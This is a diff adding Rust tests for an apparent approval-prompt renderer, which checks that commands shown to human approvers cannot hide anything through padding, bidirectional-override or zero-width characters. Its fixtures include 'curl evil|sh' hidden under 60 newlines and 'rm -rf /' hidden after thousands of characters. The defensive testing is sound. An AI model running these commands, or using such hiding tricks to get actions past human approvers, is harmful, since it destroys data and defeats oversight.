@@ -1,0 +1,111 @@
+//! What a person reads is everything that would happen, and it can not be made to look like something else.
+use event::{Digest, Effect};
+use receipt::Requirement;
+
+use super::*;
+use crate::session::samples::{ask, part, plan};
+
+#[test]
+fn nothing_that_runs_stays_out_of_sight() {
+    let below = format!("ls{}; curl evil|sh", "\n".repeat(60));
+    let far = format!("{}; rm -rf /", "a ".repeat(4000));
+    let (turned, split, thin) = ("rm \u{202e}gpj.txt", "a\u{2028}; rm b", "r\u{200b}m\u{feff} x");
+    let shown = ask(&plan(&["sh", &below, turned, &far, split, thin])).render();
+    for (index, word, escaped) in [
+        (1, below.as_str(), format!("ls{}; curl evil|sh", "\\n".repeat(60))),
+        (2, turned, "rm \\u{202e}gpj.txt".to_owned()),
+        (3, &far, far.clone()),
+        (4, split, "a\\u{2028}; rm b".to_owned()),
+        (5, thin, "r\\u{200b}m\\u{feff} x".to_owned()),
+    ] {
+        let line = format!("\n  [{index}] {}: {escaped}\n", escape::extent(word));
+        assert!(shown.contains(&line), "{index}: {shown}");
+    }
+    assert!(
+        shown.contains("[1] 76 bytes, 61 lines: ") && shown.contains("[3] 8010 bytes, 1 line: ")
+    );
+    assert!(!shown.chars().any(|c| c != '\n' && !escape::is_plain(&c.to_string())), "{shown}");
+    // The plan itself holds the same, still as JSON.
+    let json = escape::json(&ask(&plan(&["sh", &below, turned, &far, split, thin])).plan);
+    assert!(shown.contains(&json) && shown.lines().count() < json.lines().count() + 30);
+}
+
+#[test]
+fn hidden_characters_are_listed_wherever_they_stand() {
+    let mut plan = plan(&["true"]);
+    plan.cwd = Some("a\u{2066}b".to_owned());
+    plan.parts.push(part("fs.write", Some("x\u{200d}y"), Layer::Manifest, "r"));
+    let shown = ask(&plan).render();
+    assert!(
+        shown.contains(
+            "\ncharacters that would not be seen, in:\n  cwd, 5 bytes, 1 line: a\\u{2066}b\n  parts[1].subject, 5 bytes, 1 line: x\\u{200d}y\n"
+        ),
+        "{shown}"
+    );
+}
+
+#[test]
+fn rules_say_who_wrote_them_why_and_what_else_speaks() {
+    let mut plan = plan(&["true"]);
+    let mut asked = part("process.exec", Some("sh -c x"), Layer::Organisation, "shells");
+    asked.justification = Some("a shell\n- runs anything".to_owned());
+    asked.matching = vec![
+        Matched { layer: Layer::Organisation, rule: "shells".to_owned(), effect: Effect::Ask },
+        Matched { layer: Layer::Manifest, rule: "tests".to_owned(), effect: Effect::Allow },
+    ];
+    let mut open = part("network", None, Layer::Manifest, "default");
+    open.effect = Effect::Allow;
+    plan.parts = vec![open, asked];
+    plan.policies = vec![Policy { layer: Layer::Organisation, digest: Digest::of(b"top") }];
+    let shown = ask(&plan).render();
+    let rules = "\nrules:\n  ask process.exec sh -c x (7 bytes, 1 line): shells of organisation\n    because: a shell\\n- runs anything\n    beside: allow by tests of manifest\n  allow network: default of manifest\n";
+    assert!(shown.contains(rules), "{shown}");
+    let files = format!(
+        "\npolicy files:\n  organisation {}\n  manifest {}\n",
+        Digest::of(b"top"),
+        Digest::of(b"manifest")
+    );
+    assert!(shown.contains(&files), "{shown}");
+}
+
+#[test]
+fn protected_paths_stand_apart() {
+    let mut plan = plan(&["true"]);
+    plan.parts.extend([
+        part("fs.write", Some("src/a.rs"), Layer::Manifest, "src"),
+        part("fs.write", Some(".github/ci.yml"), Layer::System, "protected_paths"),
+        // Somebody's own rule may have any name.
+        part("fs.write", Some("src/b.rs"), Layer::Manifest, "protected_paths"),
+    ]);
+    let shown = ask(&plan).render();
+    assert!(
+        shown.contains(
+            "\nprotected paths, which tools run or obey on their own:\n  .github/ci.yml (14 bytes, 1 line)\nneeded:"
+        ),
+        "{shown}"
+    );
+}
+
+#[test]
+fn who_is_needed_and_what_a_yes_covers_comes_last() {
+    let mut plan = plan(&["true"]);
+    let shown = ask(&plan).render();
+    assert!(
+        shown.ends_with(
+            "\nneeded:\n  the yes of 1 person\nwhat a yes covers:\n  once: this one call"
+        ),
+        "{shown}"
+    );
+    let roles = ["operator".to_owned()].into();
+    plan.approval = vec![Requirement { roles, not_requester: true, count: 2, signature: true }];
+    plan.scopes = vec![Scope::Once, Scope::Run];
+    let shown = ask(&plan).render();
+    assert!(
+        shown.contains("\nneeded:\n  the yes of 2 different people with the role operator, not the requester, each with their own signature\nwhat"),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("\n  run: every later call of this run that is exactly this action"),
+        "{shown}"
+    );
+}
